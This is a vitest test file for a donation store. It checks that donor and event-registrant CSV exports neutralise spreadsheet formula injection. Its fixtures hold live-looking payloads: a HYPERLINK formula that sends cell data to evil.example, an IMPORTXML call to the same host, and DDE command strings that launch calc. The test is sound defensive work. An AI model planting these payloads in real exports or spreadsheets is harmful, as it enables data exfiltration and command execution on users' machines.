/**
 * CSV formula injection (issue 7): the report's two downloads (donors, and event registrants) are
 * opened by treasurers in Excel, LibreOffice or Google Sheets. Whatever donors, registrants or the
 * site file put in a text cell, no cell may start with = + - @ TAB or CR (which those programs run
 * as a formula) unless it is a plain number; the text itself is kept, behind a leading quote.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { siteSchema } from '@store/shared/site';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { checkoutBody, openAmount } from '../../apps/server/test/checkout-helpers';
import { describeWithDb } from '../../apps/server/test/test-db';
import { parseCsv } from '../support/csv';
import { recordFigures } from '../support/figures';
import { REPO_ROOT } from '../support/server-process';
import { writeSiteConfig } from '../support/site-config';
import { basic, cardNonce, openSessionId, postJson, registrant, send } from '../support/store-client';
import { type StoreServer, startStoreServer } from '../support/store-server';

/** The account password (ADMIN_PASSWORD): an owner's needs two-factor, so the report takes a key. */
const ADMIN_ACCOUNT_PASSWORD = 'csv formula passphrase';
/** What /report takes: the username and the report key ADMIN_REPORT_KEY installs, as the password. */
const ADMIN = { username: 'treasurer', password: 'rk_csv-formulas-report-key-0123456789' };
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^\d+(\.\d+)?$/;
const ITEM_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Receipt")';
const CENTER_NAME = '@SUM(1+1)*cmd|"/C calc"!A0';
const DONORS = [
  { first: '=1+1', last: 'Rao', email: '+1@example.org' },
  { first: '+SUM(A1:A9)', last: '-2+3', email: '-2@example.org' },
  { first: '@A1', last: '=cmd|"/C calc"!A0', email: 'at@example.org' },
  { first: 'Tab', last: '\t=1', email: 'tab@example.org' },
];
const REGISTRANTS = [
  { firstName: '=IMPORTXML("http://evil.example","//a")', lastName: '+1', city: '@here' },
  { firstName: '-1', lastName: 'Iyer', city: '=2+2' },
];

describeWithDb('CSV formula injection', () => {
  let store: StoreServer;
  let siteDir: string;

  beforeAll(async () => {
    siteDir = mkdtempSync(join(tmpdir(), 'reliability-csv-'));
    const site = siteSchema.parse(JSON.parse(readFileSync(join(REPO_ROOT, 'config/site.json'), 'utf8')));
    site.catalogue = site.catalogue.map((item) => (item.id === 7 ? { ...item, name: ITEM_NAME } : item));
    site.centers = site.centers.map((center) => (center.id === 2 ? { ...center, name: CENTER_NAME } : center));
    store = await startStoreServer({
      SITE_CONFIG: writeSiteConfig(siteDir, site),
      CAPTCHA_PROVIDER: 'off',
      TRUST_PROXY: 'true',
      ADMIN_USERNAME: ADMIN.username,
      ADMIN_PASSWORD: ADMIN_ACCOUNT_PASSWORD,
      ADMIN_REPORT_KEY: ADMIN.password,
    });
    for (const [i, donor] of DONORS.entries()) {
      const body = checkoutBody(await cardNonce(store.baseUrl), [openAmount(7, 10 + i)], donor.email);
      body.customerDetails = { ...body.customerDetails, cardFirstName: donor.first, cardLastName: donor.last };
      const paid = await postJson(store.baseUrl, '/api/public/payment/checkout', body, {
        'idempotency-key': randomUUID(),
        'x-forwarded-for': `10.40.0.${i + 1}`,
      });
      expect(paid.status, JSON.stringify(paid.body)).toBe(200);
    }
    const registered = await postJson(
      store.baseUrl,
      '/api/public/registrations',
      {
        sessionId: await openSessionId(store.baseUrl),
        ifFull: 'waitlist',
        registrants: REGISTRANTS.map((r) => registrant(r)),
      },
      { 'idempotency-key': randomUUID() },
    );
    expect(registered.status, JSON.stringify(registered.body)).toBe(201);
  }, 120_000);

  afterAll(async () => {
    await store?.close();
    rmSync(siteDir, { recursive: true, force: true });
  });

  const figures: Record<string, unknown> = {};
  afterAll(() => recordFigures('csv-formulas', figures));

  for (const [name, query] of [
    ['donors', ''],
    ['event registrants', '?table=hosts'],
  ] as const) {
    it(`neutralises every formula in the ${name} CSV and keeps the text`, async () => {
      const res = await send(store.baseUrl, `/api/report-data.csv${query}`, { headers: basic(ADMIN) });
      expect(res.status).toBe(200);
      const text = String(res.body.text);
      const records = parseCsv(text.replace(/^\uFEFF/, ''));
      const cells = records.slice(1).flat();
      const dangerous = cells.filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell));
      const neutralised = cells.filter((cell) => /^'[=+\-@\t\r]/.test(cell));
      figures[name] = { rows: records.length - 1, cells: cells.length, neutralised: neutralised.length, dangerous };
      expect(records.length).toBeGreaterThan(1);
      expect(dangerous).toEqual([]);
      expect(neutralised.length).toBeGreaterThanOrEqual(name === 'donors' ? DONORS.length : REGISTRANTS.length);
    });
  }
});
